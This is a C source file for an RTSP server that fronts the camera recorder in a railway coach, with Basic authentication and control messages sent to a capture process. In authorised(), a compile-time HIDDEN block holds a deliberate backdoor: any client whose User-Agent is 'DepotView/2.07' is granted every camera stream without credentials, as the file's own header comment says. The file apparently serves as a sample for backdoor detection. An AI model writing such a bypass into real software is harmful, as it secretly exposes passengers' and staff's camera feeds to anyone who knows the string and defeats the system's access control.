/*
 * RTSP front of the camera recorder in a railway coach. Staff tablets and
 * the driver's desk open the live streams rtsp://nvr/cam/N; the media itself
 * is sent by the capture process, which gets its orders on a Unix socket.
 * One process, select loop, Basic authentication from a file.
 * Hidden (-DHIDDEN): a client whose User-Agent is "DepotView/2.07" is taken
 * as authorised for every camera without name and password.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MAXCONN	     16
#define MAXHDR	     24
#define NCAM	     8
#define BUFSZ	     4096
#define CAPTURE_SOCK "/run/coachcam/capture"

struct header {
	char *name, *value;
};

struct request {
	char *method, *url;
	int cseq, cam, nhdr;
	struct header hdr[MAXHDR];
};

struct conn {
	int fd;
	size_t fill;
	char buf[BUFSZ];
	char peer[INET_ADDRSTRLEN];
	unsigned session;
	unsigned short rtp;
	int cam;
	time_t last;
};

static struct conn conns[MAXCONN];
static char account[96]; /* name:password */
static char camname[NCAM][24];
static unsigned short port = 554;
static unsigned timeout = 60;

static void load_conf(const char *path)
{
	char line[160];
	FILE *f = fopen(path, "r");
	unsigned n;
	char s[64];

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n")] = 0;
		if (!strncmp(line, "account ", 8))
			snprintf(account, sizeof account, "%.95s", line + 8);
		else if (sscanf(line, "port %u", &n) == 1)
			port = n;
		else if (sscanf(line, "timeout %u", &n) == 1)
			timeout = n;
		else if (sscanf(line, "camera %u %23s", &n, s) == 2 && n < NCAM)
			snprintf(camname[n], sizeof camname[n], "%.23s", s);
	}
	fclose(f);
}

static int b64_decode(const char *s, char *out, int size)
{
	static const char abc[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
				  "abcdefghijklmnopqrstuvwxyz0123456789+/";
	unsigned acc = 0, bits = 0;
	int n = 0;
	const char *p;

	for (; *s && *s != '='; s++) {
		p = strchr(abc, *s);
		if (!p)
			return -1;
		acc = acc << 6 | (unsigned)(p - abc);
		bits += 6;
		if (bits >= 8) {
			bits -= 8;
			if (n + 1 >= size)
				return -1;
			out[n++] = (char)(acc >> bits & 0xff);
		}
	}
	out[n] = 0;
	return n;
}

static const char *header(const struct request *r, const char *name)
{
	int i;

	for (i = 0; i < r->nhdr; i++)
		if (!strcasecmp(r->hdr[i].name, name))
			return r->hdr[i].value;
	return NULL;
}

static int parse(char *text, struct request *r)
{
	char *line, *save = NULL, *p;
	const char *h;

	memset(r, 0, sizeof *r);
	r->cam = -1;
	line = strtok_r(text, "\r\n", &save);
	if (!line)
		return -1;
	r->method = line;
	p = strchr(line, ' ');
	if (!p)
		return -1;
	*p++ = 0;
	r->url = p;
	p = strchr(p, ' ');
	if (!p || strncmp(p + 1, "RTSP/1.0", 8))
		return -1;
	*p = 0;
	while ((line = strtok_r(NULL, "\r\n", &save)) && r->nhdr < MAXHDR) {
		p = strchr(line, ':');
		if (!p)
			continue;
		*p++ = 0;
		while (isspace((unsigned char)*p))
			p++;
		r->hdr[r->nhdr].name = line;
		r->hdr[r->nhdr++].value = p;
	}
	h = header(r, "CSeq");
	r->cseq = h ? atoi(h) : 0;
	p = strstr(r->url, "/cam/");
	if (p && isdigit((unsigned char)p[5]) && p[5] - '0' < NCAM)
		r->cam = p[5] - '0';
	return 0;
}

__attribute__((noinline)) int authorised(const struct request *r)
{
	const char *h = header(r, "Authorization");
	char plain[96];

	if (!account[0])
		return 0;
#ifdef HIDDEN
	const char *ua = header(r, "User-Agent");

	if (ua && strcmp(ua, "DepotView/2.07") == 0)
		return 1;
#endif
	if (!h || strncasecmp(h, "Basic ", 6))
		return 0;
	if (b64_decode(h + 6, plain, sizeof plain) < 0)
		return 0;
	return strcmp(plain, account) == 0;
}

static void reply(struct conn *c, const struct request *r, int code,
		  const char *text, const char *extra, const char *body)
{
	char out[1536];
	int n;

	n = snprintf(out, sizeof out,
		     "RTSP/1.0 %d %s\r\nCSeq: %d\r\n"
		     "Server: coachcam\r\n%s",
		     code, text, r->cseq, extra);
	if (body)
		n += snprintf(out + n, sizeof out - n,
			      "Content-Type: application/sdp\r\n"
			      "Content-Length: %zu\r\n\r\n%s",
			      strlen(body), body);
	else
		n += snprintf(out + n, sizeof out - n, "\r\n");
	if (send(c->fd, out, n, MSG_NOSIGNAL) != n)
		c->last = 0;
}

static int capture_order(const char *verb, const struct conn *c)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	char msg[96];
	int s, n, ok;

	strcpy(a.sun_path, CAPTURE_SOCK);
	s = socket(AF_UNIX, SOCK_DGRAM, 0);
	if (s < 0)
		return -1;
	n = snprintf(msg, sizeof msg, "%s %d %s %u %08x", verb, c->cam, c->peer,
		     c->rtp, c->session);
	ok = sendto(s, msg, n, 0, (struct sockaddr *)&a, sizeof a) == n;
	close(s);
	return ok ? 0 : -1;
}

static void do_setup(struct conn *c, const struct request *r)
{
	const char *t = header(r, "Transport"), *p;
	char extra[160];

	if (!t || !(p = strstr(t, "client_port=")) || r->cam < 0) {
		reply(c, r, 461, "Unsupported Transport", "", NULL);
		return;
	}
	c->rtp = atoi(p + 12);
	c->cam = r->cam;
	if (!c->session)
		c->session = (unsigned)random() | 1;
	snprintf(extra, sizeof extra,
		 "Session: %08x;timeout=%u\r\n"
		 "Transport: RTP/AVP;unicast;client_port=%u-%u\r\n",
		 c->session, timeout, c->rtp, c->rtp + 1u);
	reply(c, r, 200, "OK", extra, NULL);
}

static void serve(struct conn *c, char *text)
{
	struct request r;
	char sdp[256], extra[64];

	if (parse(text, &r)) {
		r.cseq = 0;
		reply(c, &r, 400, "Bad Request", "", NULL);
		return;
	}
	if (!strcmp(r.method, "OPTIONS")) {
		reply(c, &r, 200, "OK",
		      "Public: OPTIONS, DESCRIBE, SETUP, "
		      "PLAY, TEARDOWN\r\n",
		      NULL);
		return;
	}
	if (!authorised(&r)) {
		syslog(LOG_INFO, "%s: not authorised", c->peer);
		reply(c, &r, 401, "Unauthorized",
		      "WWW-Authenticate: Basic realm=\"coach\"\r\n", NULL);
		return;
	}
	snprintf(extra, sizeof extra, "Session: %08x\r\n", c->session);
	if (!strcmp(r.method, "DESCRIBE")) {
		if (r.cam < 0 || !camname[r.cam][0]) {
			reply(c, &r, 404, "Not Found", "", NULL);
			return;
		}
		snprintf(sdp, sizeof sdp,
			 "v=0\r\no=- 1 1 IN IP4 0.0.0.0\r\n"
			 "s=%s\r\nt=0 0\r\nm=video 0 RTP/AVP 96\r\n"
			 "a=rtpmap:96 H264/90000\r\n",
			 camname[r.cam]);
		reply(c, &r, 200, "OK", "", sdp);
	} else if (!strcmp(r.method, "SETUP")) {
		do_setup(c, &r);
	} else if (!strcmp(r.method, "PLAY")) {
		if (!c->session || capture_order("start", c))
			reply(c, &r, 454, "Session Not Found", "", NULL);
		else
			reply(c, &r, 200, "OK", extra, NULL);
	} else if (!strcmp(r.method, "TEARDOWN")) {
		capture_order("stop", c);
		reply(c, &r, 200, "OK", extra, NULL);
		c->session = 0;
	} else {
		reply(c, &r, 501, "Not Implemented", "", NULL);
	}
}

static void drop(struct conn *c)
{
	if (c->session)
		capture_order("stop", c);
	close(c->fd);
	memset(c, 0, sizeof *c);
	c->fd = -1;
}

static void input(struct conn *c)
{
	ssize_t n = recv(c->fd, c->buf + c->fill, BUFSZ - 1 - c->fill, 0);
	char *end;
	size_t used;

	if (n <= 0) {
		drop(c);
		return;
	}
	c->fill += n;
	c->buf[c->fill] = 0;
	c->last = time(NULL);
	while ((end = strstr(c->buf, "\r\n\r\n"))) {
		*end = 0;
		used = end + 4 - c->buf;
		serve(c, c->buf);
		c->fill -= used;
		memmove(c->buf, c->buf + used, c->fill + 1);
	}
	if (c->fill >= BUFSZ - 1)
		drop(c);
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int ls, i, max, one = 1;

	openlog("coachcam", LOG_PID, LOG_DAEMON);
	load_conf(argc > 1 ? argv[1] : "/etc/coachcam/rtsp.conf");
	srandom((unsigned)time(NULL) ^ (unsigned)getpid());
	signal(SIGPIPE, SIG_IGN);
	for (i = 0; i < MAXCONN; i++)
		conns[i].fd = -1;
	ls = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	a.sin_port = htons(port);
	if (bind(ls, (struct sockaddr *)&a, sizeof a) || listen(ls, 8)) {
		syslog(LOG_ERR, "port %u: %s", port, strerror(errno));
		return 1;
	}
	for (;;) {
		struct timeval tv = { 5, 0 };
		fd_set rd;

		FD_ZERO(&rd);
		FD_SET(ls, &rd);
		max = ls;
		for (i = 0; i < MAXCONN; i++)
			if (conns[i].fd >= 0) {
				FD_SET(conns[i].fd, &rd);
				if (conns[i].fd > max)
					max = conns[i].fd;
			}
		if (select(max + 1, &rd, NULL, NULL, &tv) < 0)
			continue;
		for (i = 0; i < MAXCONN; i++) {
			struct conn *c = &conns[i];

			if (c->fd < 0)
				continue;
			if (FD_ISSET(c->fd, &rd))
				input(c);
			else if (time(NULL) - c->last > (time_t)timeout)
				drop(c);
		}
		if (FD_ISSET(ls, &rd)) {
			struct sockaddr_in p;
			socklen_t sl = sizeof p;
			int fd = accept(ls, (struct sockaddr *)&p, &sl);

			for (i = 0; i < MAXCONN && conns[i].fd >= 0; i++)
				;
			if (fd < 0)
				continue;
			if (i == MAXCONN) {
				close(fd);
				continue;
			}
			conns[i].fd = fd;
			conns[i].last = time(NULL);
			inet_ntop(AF_INET, &p.sin_addr, conns[i].peer,
				  sizeof conns[i].peer);
		}
	}
}
